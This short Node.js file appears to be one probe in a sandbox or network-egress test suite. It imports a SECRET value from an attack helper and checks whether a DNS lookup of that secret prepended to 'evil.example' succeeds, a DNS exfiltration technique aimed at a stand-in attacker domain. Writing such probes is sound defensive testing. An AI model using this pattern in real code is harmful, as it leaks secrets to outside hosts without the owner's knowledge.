// class: network
// rule: outbound_connectivity
// success: Node looks up a name that carries data, by libc
// proof: query
// needs: resolver
'use strict';
const dns = require('dns/promises');
const { attempt, SECRET } = require('./attack.js');
attempt(async () => Boolean((await dns.lookup(SECRET + '.evil.example')).address));
